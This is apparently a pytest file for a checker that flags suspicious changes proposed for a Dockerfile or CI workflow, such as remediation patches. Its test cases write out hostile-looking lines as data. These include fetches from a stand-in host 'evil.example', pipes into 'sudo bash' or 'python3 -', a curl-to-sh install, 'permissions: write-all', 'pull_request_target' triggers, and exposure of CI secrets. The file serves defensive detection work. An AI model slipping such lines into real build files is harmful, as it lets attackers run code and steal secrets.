"""What no remedy needs is told from what some do."""

import pytest

from autodevops.advice.interface import Patch
from autodevops.advice.suspicions import suspicions

BEFORE = b"FROM a:1\nRUN curl -fsS https://known.example/a | sh\nCMD x\n"


def said(replace: str, search: str | None = "CMD x") -> list[str]:
    return list(
        suspicions(
            [Patch(path="Dockerfile", search=search, replace=replace)], {"Dockerfile": BEFORE}
        )
    )


@pytest.mark.parametrize(
    "replace",
    [
        "USER 1\nCMD x",
        "HEALTHCHECK CMD curl --fail http://localhost:8000/health\nCMD x",
        "LABEL a=https://known.example/b\nCMD x",
        "RUN pip install a==1.2.3.4.5\nCMD x",
        "permissions:\n  contents: read\nCMD x",
    ],
)
def test_ordinary_remedies_are_not_suspected(replace: str) -> None:
    assert not said(replace)


def test_what_was_there_may_stay() -> None:
    old = "RUN curl -fsS https://known.example/a | sh"
    assert not said(f"USER 1\n{old}", old)
    assert said(f"{old}\n{old}", old)


@pytest.mark.parametrize(
    ("replace", "why"),
    [
        ("ADD https://evil.example/x /x", "another address: evil.example"),
        ("ADD HTTPS://EVIL.example/x /x", "another address: evil.example"),
        ("RUN git clone git@evil.example:a/b", "another address: evil.example"),
        ("RUN x 10.9.8.7", "another address: 10.9.8.7"),
        ("RUN x | sudo bash", "pipe into a shell"),
        ("RUN x | python3 -", "pipe into an interpreter"),
        ("RUN wget x", "send or fetch"),
        ("HEALTHCHECK CMD curl http://localhost/x -o /y; curl a", "send or fetch"),
        ("permissions: write-all", "ask for more rights"),
        ("  id-token: write", "ask for more rights"),
        ("on: pull_request_target", "run for strangers"),
        ("env: ${{ secrets.A }}", "take secrets"),
        ("secrets: inherit", "take secrets"),
        ("x: ${{ toJSON(secrets) }}", "take secrets"),
    ],
)
def test_what_orders_would_bring_is(replace: str, why: str) -> None:
    assert any(why in reason and reason.startswith("Dockerfile ") for reason in said(replace))
